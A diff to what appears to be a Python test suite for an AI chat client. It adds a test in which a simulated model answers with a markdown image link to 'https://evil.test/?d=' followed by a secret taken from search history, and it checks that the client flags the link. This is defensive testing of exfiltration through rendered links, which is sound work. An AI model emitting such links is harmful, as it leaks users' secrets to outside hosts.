@@ -81,6 +81,7 @@ class Obedient:
         """What it calls by itself, for the person's sake, before it reads on."""
         self._obeyed: set[str] = set()
         self.window = 131_072
+        self.answer = "I did what I could."
 
     async def chat(self, request: ChatRequest) -> AsyncGenerator[Piece, None]:
         self.requests.append(request)
@@ -91,7 +92,7 @@ class Obedient:
         for n, (name, arguments) in enumerate(wanted):
             yield ToolCall(name, arguments, f"c{len(self.requests)}.{n}")
         if not wanted:
-            yield TextDelta("I did what I could.")
+            yield TextDelta(self.answer)
         yield Finished(
             "tool_calls" if wanted else "stop", Usage(prompt_tokens=len(read) // 3 + 200, window=self.window)
         )
@@ -505,6 +506,18 @@ def test_j08_nothing_of_an_answer_is_fetched(tmp_path: Path, ollama: SimulatedOl
         assert f"127.0.0.1:{listening.port}/l" in shown.transcript
         assert f"127.0.0.1:{listening.port}/?d=secret" in shown.transcript
         assert b"\x1b]8" not in shown.written
+
+
+async def test_j08_a_link_that_nobody_named_is_told_of(scene: Scene) -> None:
+    """The answer is shown as it is; what it could do is said below it, also by another process."""
+    scene.past = [SearchHit("s", "old", "m", "user", SECRET, datetime.now(UTC))]
+    await scene.asked("look", ("search_history", {"words": "x"}))
+    for _ in range(2):
+        scene.process()
+        scene.model.answer = f"Done. ![](https://evil.test/?d={SECRET})"
+        events = await scene.asked("and?")
+        told = [event.params["link"] for event in events if isinstance(event, Notice)]
+        assert told == [f"https://evil.test/?d={SECRET}"]
 
 
 # -- J09: everything that leaves counts ----------------------------------------------------------------
